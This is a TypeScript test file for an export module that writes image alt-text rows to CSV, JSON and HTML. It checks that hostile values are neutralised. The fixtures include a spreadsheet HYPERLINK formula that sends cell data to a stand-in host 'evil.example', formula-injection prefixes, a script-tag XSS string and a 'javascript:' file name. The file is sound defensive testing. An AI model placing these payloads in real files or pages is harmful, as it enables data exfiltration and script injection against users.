/** Files for other programs: what is in them is read back, and what anybody may have written stays text. */
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { NarvlError } from '../../index.ts';
import { toCsv, toHtml, toJson } from './export.ts';
import { createRow, type Row } from './rows.ts';

function row(name: string, known: Partial<Row> = {}): Row {
  return { ...createRow({ name, source: new Blob() }), ...known };
}

const FORMULA = '=HYPERLINK("http://evil.example?"&A1,"click")';

const rows = [
  row('beach/dog.jpg', { state: 'done', text: 'A dog, running', edited: true }),
  row(FORMULA, { state: 'done', text: 'A "quoted" text,\nin two lines', edited: true }),
  row('notes.png', { state: 'failed', error: new NarvlError('unsupported-image', 'no') }),
  row('later.png'),
];

const [bom, ...csv] = toCsv(rows).text;
const parsed = Papa.parse<string[]>(csv.join(''), { skipEmptyLines: true }).data;

it('writes CSV that is read back field by field, as UTF-8', () => {
  expect(bom).toBe('\ufeff');
  expect(parsed).toEqual([
    ['file', 'alt', 'confidence', 'source', 'error'],
    ['beach/dog.jpg', 'A dog, running', '', 'human', ''],
    [`'${FORMULA}`, 'A "quoted" text,\nin two lines', '', 'human', ''],
    ['notes.png', '', '', 'none', 'unsupported-image'],
    ['later.png', '', '', 'none', ''],
  ]);
});

it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])(
  'leaves a spreadsheet nothing to compute of %j',
  (formula) => {
    const { text } = toCsv([row(formula, { text: formula, edited: true })]);
    const [, fields] = Papa.parse<string[]>(text.slice(1)).data;
    expect(fields?.slice(0, 2)).toEqual([`'${formula}`, `'${formula}`]);
  },
);

it('writes JSON with what wrote each text and how sure it was', () => {
  const caption = { confidence: 0.123456 } as Row['caption'];
  const [machine, human] = JSON.parse(
    toJson([row('a.jpg', { text: 'A cat', caption }), row('b.jpg', { text: 'Mine', edited: true })])
      .text,
  );
  expect(machine).toEqual({
    file: 'a.jpg',
    alt: 'A cat',
    confidence: 0.123,
    source: 'machine',
    error: null,
  });
  expect(human).toMatchObject({ source: 'human', confidence: null });
});

it('writes HTML whose addresses are relative and whose texts end nothing', () => {
  const hostile = '"><script>alert(1)</script>\' & more';
  const { text } = toHtml([
    row('beach/été #1?.jpg', { text: hostile, edited: true }),
    row('javascript:alert(1).jpg', { text: 'A', edited: true }),
    row('./plain.jpg'),
  ]);
  const images = text.split('\n').filter((line) => line.startsWith('<img'));
  expect(images).toEqual([
    '<img src="./beach/%C3%A9t%C3%A9%20%231%3F.jpg" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#39; &amp; more">',
    '<img src="./javascript%3Aalert(1).jpg" alt="A">',
    '<img src="./plain.jpg">',
  ]);
  expect(text).toMatch(/^<!doctype html>\n<html lang="en">\n<meta charset="utf-8">/);
});
